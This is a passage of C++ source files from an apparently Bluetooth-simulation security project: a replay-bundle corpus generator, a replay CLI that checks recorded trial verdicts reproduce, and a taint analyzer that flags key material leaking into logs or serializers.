    report("attack-clean", stats);
  }

  // lossy-supervision: bench_fault_sweep's 35 % cell; record the first trial
  // whose ARQ hit a supervision timeout.
  {
    campaign::CampaignConfig cfg;
    cfg.label = "corpus lossy";
    cfg.trials = 50;
    cfg.root_seed = 77'000 + 3 * 1'000'000;
    snapshot::RecordOptions rec;
    rec.dir = out_dir + "/lossy-supervision";
    rec.trial_kind = "page_blocking_attack_metrics";
    rec.predicate = [](const campaign::TrialResult& r) {
      if (r.metrics == nullptr) return false;
      const auto it = r.metrics->counters.find("controller.supervision_timeouts");
      return it != r.metrics->counters.end() && it->second > 0;
    };
    rec.fault_plan = [](const campaign::TrialSpec& spec) {
      faults::FaultPlan plan;
      plan.seed = spec.seed;
      plan.loss = 0.35;
      return std::optional<faults::FaultPlan>(plan);
    };
    rec.limit = 1;
    snapshot::ForkStats stats;
    (void)snapshot::run_fork_campaign(
        cfg, params,
        [](const campaign::TrialSpec& spec, snapshot::Scenario& s) {
          return attack_metrics_body(spec, s, 0.35);
        },
        &rec, &stats);
    report("lossy-supervision", stats);
  }

  // Chaos regressions: one bundle per fixed sweep finding. Each replays the
  // bonded-cell chaos trial with exactly the fault that exposed the bug and
  // pins the post-fix verdict (recovery, not violation).
  {
    struct ChaosPin {
      const char* dir;
      chaos::FaultSite fault;
    };
    const ChaosPin pins[] = {
        {"chaos-supervision-early", {"controller.supervision.timer_early", 3}},
        {"chaos-teardown-race", {"controller.teardown.supervision_race", 0}},
    };
    const std::uint64_t seed = 10'000;
    for (const ChaosPin& pin : pins) {
      snapshot::Scenario s = snapshot::build_scenario(seed, snapshot::bonded_cell_params());
      snapshot::bonded_warm_setup(s);
      std::string why;
      const auto warm = snapshot::Snapshot::capture(*s.sim, &why);
      if (!warm.has_value()) {
        std::fprintf(stderr, "%s: warm capture failed: %s\n", pin.dir, why.c_str());
        continue;
      }
      auto plan = chaos::ChaosPlan::inject({pin.fault});
      const auto trial = snapshot::run_chaos_trial(s, *warm, seed, plan);
      if (trial.outcome == snapshot::ChaosOutcome::kViolation ||
          trial.outcome == snapshot::ChaosOutcome::kStuck) {
        std::fprintf(stderr, "%s: trial regressed to %s — fix the bug, not the corpus\n",
                     pin.dir, snapshot::to_string(trial.outcome));
        continue;
      }

      snapshot::ReplayBundle bundle;
      bundle.scenario = snapshot::bonded_cell_params();
      bundle.build_seed = seed;
      bundle.trial_index = 0;
      bundle.trial_seed = seed;
      bundle.trial_kind = "chaos_bonded_cell";
      bundle.chaos_faults = chaos::encode_fault_sites({pin.fault});
      bundle.warm_setup = "bonded";
      bundle.expected_success = true;
      bundle.expected_value = static_cast<double>(static_cast<int>(trial.outcome));
      bundle.expected_virtual_end = trial.virtual_end;
      bundle.snapshot = warm->bytes();

      const std::string dir = out_dir + "/" + pin.dir;
      std::filesystem::create_directories(dir, ec);
      const std::string path = dir + "/chaos-000000.blapreplay";
      if (bundle.save_file(path)) {
        std::printf("%-17s -> %s\n", pin.dir, path.c_str());
        ++written;
      }
    }
  }

  // Fuzz regression pins: the stack target's seed op streams, recorded at
  // their post-fix verdict. Names track seed_inputs() order — if the seeds
  // change, update both.
  {
    static const char* const kFuzzPinNames[] = {
        "fuzz-advance-time",        // pure virtual-time advance
        "fuzz-disconnect-inject",   // valid Disconnect cmd at the live handle
        "fuzz-phantom-connection",  // unsolicited Connection_Complete (the
                                    // first campaign's finding, fixed in-PR)
        "fuzz-lmp-detach",          // LMP detach frame on the air
    };
    fuzz::StackTarget target;
    const auto seeds = target.seed_inputs();
    if (seeds.size() != std::size(kFuzzPinNames)) {
      std::fprintf(stderr, "fuzz pins: seed_inputs() count changed (%zu vs %zu) — "
                           "update kFuzzPinNames\n",
                   seeds.size(), std::size(kFuzzPinNames));
    } else {
      for (std::size_t i = 0; i < seeds.size(); ++i) {
        fuzz::FeatureSink sink;
        const fuzz::ExecResult result = target.execute(seeds[i], sink);
        if (result.finding) {
          std::fprintf(stderr, "%s: trial regressed to a finding [%s]: %s — "
                               "fix the bug, not the corpus\n",
                       kFuzzPinNames[i], result.kind.c_str(), result.detail.c_str());
          continue;
        }
        const auto bundle = target.make_bundle(seeds[i], result);
        if (!bundle.has_value()) continue;
        const std::string dir = out_dir + "/" + kFuzzPinNames[i];
        std::filesystem::create_directories(dir, ec);
        const std::string path = dir + "/fuzz-000000.blapreplay";
        if (bundle->save_file(path)) {
          std::printf("%-17s -> %s\n", kFuzzPinNames[i], path.c_str());
          ++written;
        }
      }
    }
  }

  std::printf("%d bundle(s) written under %s\n", written, out_dir.c_str());
  return written == 9 ? 0 : 1;
}
