// blap-replay — re-execute a recorded trial bundle and diff it against the
// recorded verdict.
//
//   blap-replay <bundle.blapreplay> [--trace-out <path>] [--strict] [--quiet]
//
// Loads the bundle, rebuilds its scenario, restores the recorded warm
// snapshot, reseeds with the recorded trial seed, re-runs the trial kind
// (re-installing the recorded fault plan) and compares success / value /
// final virtual clock / metrics JSON against what the campaign recorded.
// The stack is deterministic, so any mismatch means the code under test
// changed since the bundle was written.
//
// --trace-out additionally runs the trial with tracing enabled and writes a
// Chrome-trace JSON loadable in Perfetto (ui.perfetto.dev) — tracing is
// pure observation and cannot perturb the verdict. --strict also fails when
// rebuilding the scenario no longer reproduces the recorded snapshot
// byte-for-byte (setup/serialization drift); by default that is a warning,
// since replay proceeds from the recorded bytes either way.
//
// Exit codes: 0 reproduced, 1 not reproduced (or snapshot drift under
// --strict), 2 usage/load errors.
#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>

#include "snapshot/replay.hpp"

namespace {

void usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s <bundle.blapreplay> [--trace-out <path>] [--strict] [--quiet]\n",
               argv0);
}

}  // namespace

int main(int argc, char** argv) {
  using namespace blap::snapshot;

  std::string bundle_path;
  std::string trace_out;
  bool strict = false;
  bool quiet = false;
  for (int i = 1; i < argc; ++i) {
    const char* arg = argv[i];
    if (std::strcmp(arg, "--trace-out") == 0) {
      if (i + 1 >= argc) {
        usage(argv[0]);
        return 2;
      }
      trace_out = argv[++i];
    } else if (std::strcmp(arg, "--strict") == 0) {
      strict = true;
    } else if (std::strcmp(arg, "--quiet") == 0) {
      quiet = true;
    } else if (arg[0] == '-') {
      std::fprintf(stderr, "blap-replay: unknown option '%s'\n", arg);
      usage(argv[0]);
      return 2;
    } else if (bundle_path.empty()) {
      bundle_path = arg;
    } else {
      usage(argv[0]);
      return 2;
    }
  }
  if (bundle_path.empty()) {
    usage(argv[0]);
    return 2;
  }

  std::string why;
  const auto bundle = ReplayBundle::load_file(bundle_path, &why);
  if (!bundle.has_value()) {
    std::fprintf(stderr, "blap-replay: cannot load %s: %s\n", bundle_path.c_str(),
                 why.c_str());
    return 2;
  }

  const ReplayOutcome outcome = replay_bundle(*bundle, !trace_out.empty());
  if (!outcome.executed) {
    std::fprintf(stderr, "blap-replay: %s\n", outcome.error.c_str());
    return 2;
  }

  if (!trace_out.empty()) {
    std::ofstream out(trace_out, std::ios::binary);
    if (!out) {
      std::fprintf(stderr, "blap-replay: cannot write %s\n", trace_out.c_str());
      return 2;
    }
    out << outcome.trace_json;
    if (!quiet)
      std::printf("trace written to %s (load in ui.perfetto.dev)\n", trace_out.c_str());
  }

  if (!quiet) {
    std::printf("bundle:   %s\n", bundle_path.c_str());
    std::printf("scenario: %s\n", encode_scenario(bundle->scenario).c_str());
    std::printf("trial:    kind=%s index=%zu seed=%llu%s\n", bundle->trial_kind.c_str(),
                bundle->trial_index, static_cast<unsigned long long>(bundle->trial_seed),
                bundle->fault_plan.has_value() ? " (fault plan installed)" : "");
    std::printf("verdict:  recorded success=%d value=%g virtual_end=%llu\n",
                bundle->expected_success ? 1 : 0, bundle->expected_value,
                static_cast<unsigned long long>(bundle->expected_virtual_end));
    std::printf("re-run:   success=%d value=%g virtual_end=%llu\n",
                outcome.result.success ? 1 : 0, outcome.result.value,
                static_cast<unsigned long long>(outcome.result.virtual_end));
    std::printf("match:    verdict=%s metrics=%s snapshot=%s\n",
                outcome.verdict_matches ? "yes" : "NO",
                outcome.metrics_match ? "yes" : "NO",
                outcome.snapshot_matches ? "yes" : "DRIFTED");
  }
  if (!outcome.snapshot_matches && !quiet)
    std::fprintf(stderr,
                 "blap-replay: warning: rebuilt scenario no longer matches the recorded "
                 "snapshot (replayed from recorded bytes)%s\n",
                 strict ? " [--strict: failing]" : "");

  const bool ok = outcome.reproduced() && (!strict || outcome.snapshot_matches);
  if (!quiet) std::printf("%s\n", ok ? "REPRODUCED" : "NOT REPRODUCED");
  return ok ? 0 : 1;
}
