// main.cpp — blap-taint CLI.
//
//   blap-taint [--root DIR] [--compile-commands PATH]
//              [--json OUT] [--sites OUT] [files...]
//
// With no file arguments, analyzes the whole tree under --root (default:
// the current directory) as one program — the translation units from
// --compile-commands plus every header the tree walk finds (headers are
// not in the compilation database but hold the inline methods and the
// secret-typed field declarations the passes need). Exit code 0 = clean,
// 1 = findings, 2 = usage or I/O error.
//
// --json writes the machine-readable report (CI uploads it as the
// taint-report.json artifact); --sites writes the deduplicated
// declassification whitelist, one "file:function:kind" per line, which CI
// diffs against the pinned tests/taint_expected_sites.txt.
#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "taint.hpp"

namespace {

void usage() {
  std::fprintf(stderr,
               "usage: blap-taint [--root DIR] [--compile-commands PATH] "
               "[--json OUT] [--sites OUT] [files...]\n");
}

bool write_file(const std::string& path, const std::string& content) {
  std::ofstream out(path, std::ios::binary);
  if (!out) return false;
  out << content;
  return static_cast<bool>(out);
}

}  // namespace

int main(int argc, char** argv) {
  std::string root = ".";
  std::string compile_commands;
  std::string json_out;
  std::string sites_out;
  std::vector<std::string> files;
  for (int i = 1; i < argc; ++i) {
    const char* arg = argv[i];
    auto value = [&](std::string& into) {
      if (i + 1 >= argc) {
        usage();
        std::exit(2);
      }
      into = argv[++i];
    };
    if (std::strcmp(arg, "--root") == 0) {
      value(root);
    } else if (std::strcmp(arg, "--compile-commands") == 0) {
      value(compile_commands);
    } else if (std::strcmp(arg, "--json") == 0) {
      value(json_out);
    } else if (std::strcmp(arg, "--sites") == 0) {
      value(sites_out);
    } else if (std::strcmp(arg, "--help") == 0 || std::strcmp(arg, "-h") == 0) {
      usage();
      return 0;
    } else if (arg[0] == '-') {
      usage();
      return 2;
    } else {
      files.emplace_back(arg);
    }
  }

  // Canonicalize the root so a relative `--root .` walk and the absolute
  // paths in compile_commands.json land on one spelling per file —
  // otherwise every TU is analyzed (and whitelisted) twice.
  {
    std::error_code ec;
    const auto canon = std::filesystem::weakly_canonical(root, ec);
    if (!ec) root = canon.string();
  }

  if (files.empty()) {
    files = blap::taint::tree_files(root);
    if (!compile_commands.empty()) {
      for (std::string& f : blap::taint::compile_commands_files(compile_commands)) {
        std::error_code ec;
        const auto canon = std::filesystem::weakly_canonical(f, ec);
        if (!ec) f = canon.string();
        // TUs outside the tree walk (generated files, out-of-tree paths).
        if (std::find(files.begin(), files.end(), f) == files.end())
          files.push_back(std::move(f));
      }
    }
    if (files.empty()) {
      std::fprintf(stderr, "blap-taint: no sources under %s\n", root.c_str());
      return 2;
    }
  }

  const blap::taint::Report report = blap::taint::analyze_files(files);

  for (const auto& finding : report.findings)
    std::printf("%s\n", blap::taint::to_string(finding).c_str());

  if (!json_out.empty() && !write_file(json_out, blap::taint::report_json(report))) {
    std::fprintf(stderr, "blap-taint: cannot write %s\n", json_out.c_str());
    return 2;
  }
  if (!sites_out.empty()) {
    std::string lines;
    for (const std::string& l : blap::taint::site_lines(report, root)) {
      lines += l;
      lines += '\n';
    }
    if (!write_file(sites_out, lines)) {
      std::fprintf(stderr, "blap-taint: cannot write %s\n", sites_out.c_str());
      return 2;
    }
  }

  std::printf(
      "blap-taint: %zu finding(s), %zu declassified site(s), %d proven lifetime "
      "site(s) over %d function(s) in %d file(s)\n",
      report.findings.size(), report.declassified.size(), report.proven_lifetime_sites,
      report.functions_analyzed, report.files_analyzed);
  return report.findings.empty() ? 0 : 1;
}
