// taint.hpp — blap-taint: cross-TU secret-flow and callback-lifetime
// analysis for the BLAP tree.
//
// blap-lint's S1 is a token scan: it catches `BLAP_INFO(..., link_key)`
// because the identifier *names* the secret. It cannot catch
//
//   auto staged = record.link_key;      // renamed...
//   BLAP_INFO("sec", "%s", hex(staged));  // ...and leaked
//
// blap-taint closes that gap with two interprocedural passes over the
// mini-IR (ir.hpp):
//
//   S2 (secret flow). Taint seeds at every value whose declared type names
//   key material (LinkKey, EncryptionKey — the E0 session key — PinCode)
//   and at every read of a field declared with one of those types
//   (`.link_key`, `.kinit`, `.enc_key`, ...). Taint propagates through
//   assignments and compound assignments, memcpy/std::copy, call arguments
//   (call-site-sensitive: `hex(key)` is tainted, `hex(addr)` is not) and
//   call returns (a function returns secret if its declared return type is
//   secret, or any `return` expression is tainted under the function's OWN
//   seeds — pushed caller taint deliberately does not leak into return
//   derivation, so shared transformers like hex() don't poison every call
//   site). Tainted values reaching a sink — log macros, obs trace/metric
//   emission, StateWriter snapshot serialization, JSON/CSV/bt-config
//   serializers, hand-built key-bearing HCI records in test/bench/analytics
//   helpers — are findings unless the statement carries a
//   `// blap-taint: declassified — <why>` marker; marked statements are the
//   intentional attack-observation points and are reported as sites so CI
//   can diff them against the pinned whitelist.
//
//   D6 (callback lifetime; supersedes D3's blanket suppression story).
//   Every scheduler-callback lambda (schedule_in/schedule_at/
//   schedule_at_seq) is checked: capturing a raw device pointer (Device,
//   Controller, HostStack, RadioEndpoint, Simulation) is a finding unless
//   the statement carries `// blap-taint: lifetime-ok — <why>`; lambdas
//   that instead capture a generation-checked handle and re-validate it
//   (`registry_.resolve(h)` + nullptr check) before dereference are counted
//   as proven sites in the report.
#pragma once

#include <string>
#include <vector>

#include "ir.hpp"

namespace blap::taint {

enum class Rule {
  kS2SecretFlow,  // tainted key material reaches an observation sink
  kD6Lifetime,    // raw device pointer captured by a scheduler callback
};

[[nodiscard]] const char* rule_id(Rule rule);

struct Finding {
  Rule rule = Rule::kS2SecretFlow;
  std::string file;
  int line = 0;
  std::string message;
};

/// A declassified sink: an intentional attack-observation point whose
/// statement carries a `blap-taint: declassified` marker. `why` is the
/// marker comment's justification text.
struct Site {
  std::string file;
  std::string function;
  std::string kind;  // log | obs | snapshot | serializer | record-builder
  int line = 0;
  std::string why;
};

struct Report {
  std::vector<Finding> findings;
  std::vector<Site> declassified;
  int proven_lifetime_sites = 0;  // handle-validated scheduler lambdas (D6)
  int files_analyzed = 0;
  int functions_analyzed = 0;
};

struct NamedSource {
  std::string path;
  std::string content;
};

/// Analyze a set of in-memory sources as one program (cross-TU: the call
/// graph and the secret-field set span all of them).
[[nodiscard]] Report analyze_sources(const std::vector<NamedSource>& sources);

/// Read `paths` from disk and analyze them as one program. Unreadable
/// files are skipped.
[[nodiscard]] Report analyze_files(const std::vector<std::string>& paths);

/// Translation units listed in a compile_commands.json ("file" entries).
[[nodiscard]] std::vector<std::string> compile_commands_files(const std::string& json_path);

/// All C++ sources under root's src/examples/bench/tests/tools trees,
/// excluding lint/taint fixtures and build directories. Headers are not in
/// compile_commands.json, so tree runs union this with the TU list.
[[nodiscard]] std::vector<std::string> tree_files(const std::string& root);

[[nodiscard]] std::string to_string(const Finding& finding);

/// Machine-readable report (findings, declassified sites, counters).
[[nodiscard]] std::string report_json(const Report& report);

/// Stable whitelist lines "file:function:kind", deduplicated and sorted,
/// with `strip_prefix` removed from the front of each path — this is the
/// format pinned in tests/taint_expected_sites.txt.
[[nodiscard]] std::vector<std::string> site_lines(const Report& report,
                                                  const std::string& strip_prefix = "");

}  // namespace blap::taint
