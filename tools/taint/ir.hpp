// ir.hpp — per-function mini-IR for blap-taint.
//
// blap-taint needs more structure than blap-lint's flat token scans: taint
// propagates through assignments, call arguments and returns, so the
// analyzer must know where functions begin and end, what their parameters
// are called, and what type each local was declared with. This header
// turns the shared tokenizer's output (tools/lint/lex.hpp) into exactly
// that — no more. It is deliberately not an AST: statements stay token
// ranges, and the passes in taint.cpp walk them with small pattern helpers.
//
// What the builder recognizes:
//   * function definitions — free functions, `Class::method` out-of-line
//     definitions, and inline methods — with parameter names/types, the
//     return-type token run, and the body token range;
//   * typed declarations inside bodies (`crypto::LinkKey k = ...`,
//     `StateWriter& w`, `RadioEndpoint* ep = ...`), including through
//     `[[attr]]` attribute runs and cv-qualifiers;
//   * nothing else. Expressions, lambdas and calls are consumed in place
//     by the passes, which re-walk the token range of each statement.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "lex.hpp"

namespace blap::taint {

using lint::Lexed;
using lint::Token;

/// A named declaration with the token run that preceded the name ("type").
struct Decl {
  std::string name;
  std::vector<std::string> type;  // e.g. {"crypto","::","LinkKey","&"}
  int line = 0;

  /// True if any type token equals `t` (token match, so "LinkKeyType"
  /// never matches "LinkKey").
  [[nodiscard]] bool type_has(std::string_view t) const;
  /// True if the type run contains both `t` and a '*' (raw pointer to t).
  [[nodiscard]] bool is_pointer_to(std::string_view t) const;
};

struct Function {
  std::string name;       // unqualified ("save_state")
  std::string qualified;  // "Controller::save_state" when defined out of line
  std::string file;       // normalized path
  int line = 0;
  std::vector<std::string> return_type;  // tokens before the (qualified) name
  std::vector<Decl> params;
  std::vector<Decl> locals;   // typed decls anywhere in the body
  std::size_t body_begin = 0;  // token index of the opening '{'
  std::size_t body_end = 0;    // token index of the matching '}'
};

/// One parsed file: its lexed tokens plus every function found in them.
struct SourceFile {
  std::string path;
  Lexed lex;
  std::vector<Function> functions;
};

/// Lex `content` and extract the function-level IR.
[[nodiscard]] SourceFile build_ir(std::string path, std::string_view content);

/// Split the argument list of the call whose '(' is at `open` into
/// top-level comma-separated token ranges [first, last) — empty when the
/// call has no arguments or the parens are unbalanced.
[[nodiscard]] std::vector<std::pair<std::size_t, std::size_t>> split_args(
    const std::vector<Token>& tokens, std::size_t open);

}  // namespace blap::taint
