// taint.cpp — the two interprocedural passes behind blap-taint (see
// taint.hpp for the contract).
#include "taint.hpp"

#include <algorithm>
#include <filesystem>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <map>
#include <set>
#include <sstream>

namespace blap::taint {
namespace {

using lint::has_tag;
using lint::ident_start;
using lint::match_close;
using lint::suppressed_range;
using lint::tag_line;

constexpr const char* kDeclassifiedTag = "declassified";
constexpr const char* kLifetimeTag = "lifetime-ok";

// Types whose values ARE key material. Token match only: LinkKeyType (an
// enum) never matches LinkKey.
const std::set<std::string>& secret_types() {
  static const std::set<std::string> s = {"LinkKey", "EncryptionKey", "PinCode"};
  return s;
}

const std::set<std::string>& log_macros() {
  static const std::set<std::string> s = {"BLAP_LOG",  "BLAP_TRACE", "BLAP_DEBUG",
                                          "BLAP_INFO", "BLAP_WARN",  "BLAP_ERROR"};
  return s;
}

// Trace/metric emission methods (src/obs). `add` is too generic a name on
// its own and additionally requires a metrics-ish receiver.
const std::set<std::string>& obs_methods() {
  static const std::set<std::string> s = {"instant", "begin_span", "end_span",
                                          "observe", "gauge_max", "add"};
  return s;
}

// state::StateWriter's write surface (src/common/state_io.hpp).
const std::set<std::string>& writer_methods() {
  static const std::set<std::string> s = {"u8",  "u16", "u32",   "u64", "boolean",
                                          "f64", "bytes", "str", "fixed"};
  return s;
}

const std::set<std::string>& device_types() {
  static const std::set<std::string> s = {"Device", "Controller", "HostStack",
                                          "RadioEndpoint", "Simulation"};
  return s;
}

const std::set<std::string>& scheduler_calls() {
  static const std::set<std::string> s = {"schedule_in", "schedule_at", "schedule_at_seq"};
  return s;
}

// HCI event codes whose payload carries plaintext link keys: a record hand-
// built around one of these *is* key material by construction, typed or not
// (the corpus generator derives its key bytes from splitmix64, so type-based
// taint alone would miss it).
const std::set<std::string>& key_event_consts() {
  static const std::set<std::string> s = {"kReturnLinkKeys", "kLinkKeyNotification"};
  return s;
}

bool path_has(const std::string& path, std::string_view needle) {
  return path.find(needle) != std::string::npos;
}

bool is_ident(const Token& tok) {
  return !tok.text.empty() && ident_start(tok.text[0]);
}

struct FnState {
  const SourceFile* file = nullptr;
  const Function* fn = nullptr;
  std::set<std::string> taint;  // tainted local/param names (current env)
  bool returns_secret = false;
};

struct Program {
  std::vector<SourceFile> files;
  std::vector<FnState> fns;
  std::map<std::string, std::vector<std::size_t>> by_name;  // unqualified name
  std::set<std::string> secret_fields;  // names declared with a secret type
};

const Decl* decl_of(const Function& fn, const std::string& name) {
  for (auto it = fn.locals.rbegin(); it != fn.locals.rend(); ++it)
    if (it->name == name) return &*it;
  for (const Decl& p : fn.params)
    if (p.name == name) return &p;
  return nullptr;
}

/// Field names declared with a secret type at class/struct scope:
/// `LinkKey key{};`, `std::optional<crypto::LinkKey> extracted_key;`. Reads
/// of these names behind `.`/`->` seed taint in every function. Function
/// bodies are skipped (typed locals are seeded per-function with correct
/// scoping) and the name must be followed by a declarator terminator — a
/// parameter in a prototype (`xor16(const LinkKey& a, ...)`) must NOT make
/// every `.a` in the tree secret.
void collect_secret_fields(const SourceFile& file, std::set<std::string>& out) {
  const auto& tokens = file.lex.tokens;
  std::size_t next_fn = 0;
  for (std::size_t i = 0; i + 1 < tokens.size(); ++i) {
    while (next_fn < file.functions.size() && file.functions[next_fn].body_end < i)
      ++next_fn;
    if (next_fn < file.functions.size() && i > file.functions[next_fn].body_begin &&
        i < file.functions[next_fn].body_end)
      continue;
    if (secret_types().count(tokens[i].text) == 0) continue;
    std::size_t j = i + 1;
    while (j < tokens.size() &&
           (tokens[j].text == ">" || tokens[j].text == "*" || tokens[j].text == "&"))
      ++j;
    if (j + 1 >= tokens.size() || !is_ident(tokens[j])) continue;
    const std::string& term = tokens[j + 1].text;
    if (term == ";" || term == "=" || term == "{" || term == "[")
      out.insert(tokens[j].text);
  }
}

/// First atom in [first, last) carrying secret bytes under `env` (empty
/// string when the range is clean):
///   * a tainted local/param name,
///   * a `.field` / `->field` read of a secret-typed declaration,
///   * a call to a function that returns secret material.
std::string tainted_atom(const Program& prog, const FnState& env, std::size_t first,
                         std::size_t last) {
  const auto& t = env.file->lex.tokens;
  last = std::min(last, t.size());
  for (std::size_t i = first; i < last; ++i) {
    if (!is_ident(t[i])) continue;
    const std::string& name = t[i].text;
    if (env.taint.count(name) != 0) return name;
    const bool dotted = i > first && (t[i - 1].text == "." || t[i - 1].text == "->");
    if (dotted && prog.secret_fields.count(name) != 0) return "." + name;
    if (i + 1 < last && t[i + 1].text == "(") {
      auto it = prog.by_name.find(name);
      if (it != prog.by_name.end())
        for (std::size_t fi : it->second)
          if (prog.fns[fi].returns_secret) return name + "()";
    }
  }
  return {};
}

bool expr_tainted(const Program& prog, const FnState& env, std::size_t first,
                  std::size_t last) {
  return !tainted_atom(prog, env, first, last).empty();
}

/// First identifier in [first, last) that names data (skips namespace-ish
/// helpers) — the copy destination of memcpy/std::copy.
std::string dst_ident(const std::vector<Token>& t, std::size_t first, std::size_t last) {
  static const std::set<std::string> kSkip = {"std", "begin", "end", "data",
                                              "back_inserter", "addressof"};
  for (std::size_t i = first; i < last && i < t.size(); ++i)
    if (is_ident(t[i]) && kSkip.count(t[i].text) == 0) return t[i].text;
  return {};
}

/// One intra-function propagation sweep over `env.taint`; true if the set
/// grew. Statements are delimited by ';'/'{'/'}' — lambda bodies therefore
/// contribute their own statements, which is exactly the flow we want.
bool propagate_once(const Program& prog, FnState& env) {
  const auto& t = env.file->lex.tokens;
  bool changed = false;
  std::size_t stmt = env.fn->body_begin + 1;
  for (std::size_t i = env.fn->body_begin + 1; i < env.fn->body_end; ++i) {
    const std::string& s = t[i].text;
    if (s == ";" || s == "{" || s == "}") {
      // Statement [stmt, i): look for an assignment at nesting depth 0.
      int depth = 0;
      for (std::size_t k = stmt; k < i; ++k) {
        const std::string& w = t[k].text;
        if (w == "(" || w == "[") ++depth;
        else if (w == ")" || w == "]") --depth;
        else if (w == "=" && depth == 0 && k > stmt) {
          // A lambda literal is code, not key bytes — referencing a secret
          // in its body does not make the closure object secret.
          if (k + 1 < i && t[k + 1].text != "[" && expr_tainted(prog, env, k + 1, i)) {
            // LHS name: last identifier before the '=', skipping an index
            // expression (`buf[0] = ...` taints buf).
            std::size_t l = k;
            while (l > stmt && t[l - 1].text == "]") {
              int d = 1;
              --l;
              while (l > stmt && d != 0) {
                --l;
                if (t[l].text == "]") ++d;
                else if (t[l].text == "[") --d;
              }
            }
            // Skip compound-assignment operator halves (`+` of `+=`).
            while (l > stmt && !is_ident(t[l - 1]) && t[l - 1].text != ")") --l;
            // Member writes (`report.flag = ...`) carry *derived* state —
            // verdict booleans, counters — not the key bytes themselves;
            // secret-typed fields are already covered by secret_fields.
            const bool member_write =
                l >= stmt + 2 && (t[l - 2].text == "." || t[l - 2].text == "->");
            if (!member_write && l > stmt && is_ident(t[l - 1]) &&
                env.taint.insert(t[l - 1].text).second)
              changed = true;
          }
          break;
        }
      }
      stmt = i + 1;
      continue;
    }
    // Byte copies: memcpy(dst, src, n) / std::copy(first, last, dst).
    if (i + 1 < env.fn->body_end && t[i + 1].text == "(" &&
        (s == "memcpy" || s == "copy" || s == "copy_n")) {
      const auto args = split_args(t, i + 1);
      if (s == "memcpy" && args.size() >= 2 &&
          expr_tainted(prog, env, args[1].first, args[1].second)) {
        const std::string dst = dst_ident(t, args[0].first, args[0].second);
        if (!dst.empty() && env.taint.insert(dst).second) changed = true;
      }
      if (s != "memcpy" && args.size() >= 3 &&
          expr_tainted(prog, env, args[0].first, args[0].second)) {
        const std::string dst = dst_ident(t, args[2].first, args[2].second);
        if (!dst.empty() && env.taint.insert(dst).second) changed = true;
      }
    }
  }
  return changed;
}

void propagate(const Program& prog, FnState& env) {
  for (int pass = 0; pass < 8 && propagate_once(prog, env); ++pass) {
  }
}

std::set<std::string> local_seed(const Function& fn) {
  std::set<std::string> seed;
  auto is_secret_decl = [](const Decl& d) {
    for (const std::string& s : secret_types())
      if (d.type_has(s)) return true;
    return false;
  };
  for (const Decl& p : fn.params)
    if (is_secret_decl(p)) seed.insert(p.name);
  for (const Decl& l : fn.locals)
    if (is_secret_decl(l)) seed.insert(l.name);
  return seed;
}

bool any_return_tainted(const Program& prog, const FnState& env) {
  const auto& t = env.file->lex.tokens;
  for (std::size_t i = env.fn->body_begin + 1; i < env.fn->body_end; ++i) {
    if (t[i].text != "return") continue;
    std::size_t end = i + 1;
    while (end < env.fn->body_end && t[end].text != ";") ++end;
    if (expr_tainted(prog, env, i + 1, end)) return true;
  }
  return false;
}

/// Walk back through a chained-call receiver (`w.u8(a).u8(b)`) to the base
/// identifier; `dot` indexes the '.'/'->' before the method name.
std::string receiver_base(const std::vector<Token>& t, std::size_t dot) {
  std::size_t k = dot;
  while (k > 0) {
    --k;  // token before the dot (or before a method name we just consumed)
    if (t[k].text == ")") {  // chained call: skip to its '(' ...
      int depth = 1;
      while (k > 0 && depth != 0) {
        --k;
        if (t[k].text == ")") ++depth;
        else if (t[k].text == "(") --depth;
      }
      if (k == 0) return {};
      --k;  // ... and the method name before it
      if (k == 0 || !is_ident(t[k])) return {};
      if (t[k - 1].text != "." && t[k - 1].text != "->") return t[k].text;
      --k;  // the next '.': loop continues walking left
      continue;
    }
    if (is_ident(t[k])) {
      if (k > 0 && (t[k - 1].text == "." || t[k - 1].text == "->")) {
        --k;
        continue;
      }
      return t[k].text;
    }
    return {};
  }
  return {};
}

struct SinkScan {
  Report* report = nullptr;
  std::set<std::string> seen_sites;  // file:function:kind dedupe
};

/// Record one sink hit: a declassification marker over the statement turns
/// it into a whitelist Site; otherwise it is an S2 finding.
void emit_sink(SinkScan& scan, const FnState& env, const char* kind, int line,
               int stmt_from, int stmt_to, std::string message) {
  const Lexed& lx = env.file->lex;
  const int marker = tag_line(lx, stmt_from, stmt_to, kDeclassifiedTag);
  if (marker != 0) {
    Site site;
    site.file = env.file->path;
    site.function = env.fn->qualified;
    site.kind = kind;
    site.line = line;
    auto it = lx.marker_comments.find(marker);
    if (it != lx.marker_comments.end()) {
      std::string why = it->second;
      const std::size_t at = why.find("blap-taint:");
      if (at != std::string::npos) why = why.substr(at + 11);
      while (!why.empty() && (why.front() == ' ' || why.front() == '/')) why.erase(0, 1);
      site.why = why;
    }
    const std::string key = site.file + ":" + site.function + ":" + site.kind;
    if (scan.seen_sites.insert(key).second)
      scan.report->declassified.push_back(std::move(site));
    return;
  }
  scan.report->findings.push_back(
      Finding{Rule::kS2SecretFlow, env.file->path, line, std::move(message)});
}

/// The statement line span around token `at`: back to the previous
/// ';'/'{'/'}' and forward to the next one (for marker bubbling, trailing
/// markers included).
std::pair<int, int> stmt_span(const std::vector<Token>& t, std::size_t at) {
  auto is_delim = [](const std::string& s) { return s == ";" || s == "{" || s == "}"; };
  std::size_t first = at;
  while (first > 0 && !is_delim(t[first - 1].text)) --first;
  std::size_t last = at;
  while (last + 1 < t.size() && !is_delim(t[last].text)) ++last;
  return {t[first].line, t[last].line};
}

bool serializer_context(const FnState& env) {
  const std::string& name = env.fn->name;
  if (name.rfind("to_", 0) == 0) return true;
  if (name.find("json") != std::string::npos || name.find("csv") != std::string::npos ||
      name.find("write") != std::string::npos)
    return true;
  return path_has(env.file->path, "/campaign/") || path_has(env.file->path, "/analytics/");
}

bool record_builder_context(const std::string& path) {
  return path_has(path, "tests/") || path_has(path, "bench/") ||
         path_has(path, "/analytics/") || path_has(path, "/campaign/");
}

void scan_sinks(const Program& prog, const FnState& env, SinkScan& scan) {
  const auto& t = env.file->lex.tokens;
  std::set<std::pair<int, const char*>> flagged;  // one finding per line+kind
  auto emit = [&](const char* kind, std::size_t at, std::size_t call_close,
                  std::string message) {
    auto [from, to] = stmt_span(t, at);
    if (call_close < t.size()) to = std::max(to, t[call_close].line);
